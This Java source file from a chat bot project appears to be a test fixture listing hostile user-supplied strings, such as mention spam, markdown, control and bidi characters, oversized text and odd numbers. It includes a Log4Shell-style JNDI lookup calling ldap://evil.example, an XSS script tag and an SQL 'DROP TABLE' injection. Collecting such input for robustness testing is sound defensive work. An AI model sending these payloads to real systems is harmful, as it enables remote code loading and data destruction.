package dev.levelwright.chat;

import java.util.List;

/** Texts that people have called themselves, or typed, to see what breaks. */
final class Hostile {
    /** Each of them once. */
    static final List<String> TEXTS = List.of(
            "@everyone",
            "@here free coins",
            "<@123456789012345678>",
            "<@&123456789012345678> <#123> </daily:123> <t:0:R> <:a:1>",
            "`code` ```block```",
            "**bold** _it_ __u__ ~~s~~ ||spoiler||",
            "# heading",
            "> quote\n>>> quotes",
            "- item\n1. item",
            "-# small",
            "[click](https://evil.example)",
            "https://evil.example/x?y=z",
            "evil.example",
            "/daily #tag $CASH @durov",
            "<b>bold</b><script>alert(1)</script>&amp;&#60;",
            "<a href=\"tg://user?id=1\">you</a>",
            "\u001b[31mred\u001b[0m\u0007\u009b2J",
            "a\r\nb\u2028c\u2029d\u0000e\u0085f",
            "\u202Eevil\u202D \u2066x\u2069 \u200Fy",
            "\u05d0\u05d1\u05d2 100 \u0645\u062d\u0645\u062f",
            "z" + "\u0335\u0321\u031b".repeat(50) + "algo",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 family \uD83C\uDF89",
            "\uD83D half of a pair \uDC00",
            "${jndi:ldap://evil.example/a} {0} {player} %s %n",
            "'; DROP TABLE levelwright; --",
            "\u200B\u200B\u200B",
            "\\",
            "ends with a backslash \\",
            "x".repeat(4_000),
            "\uD83C\uDF89".repeat(2_000),
            "-1",
            "9".repeat(60),
            "1e308",
            "NaN",
            "５",
            "lw:rank::1");

    private Hostile() {}
}
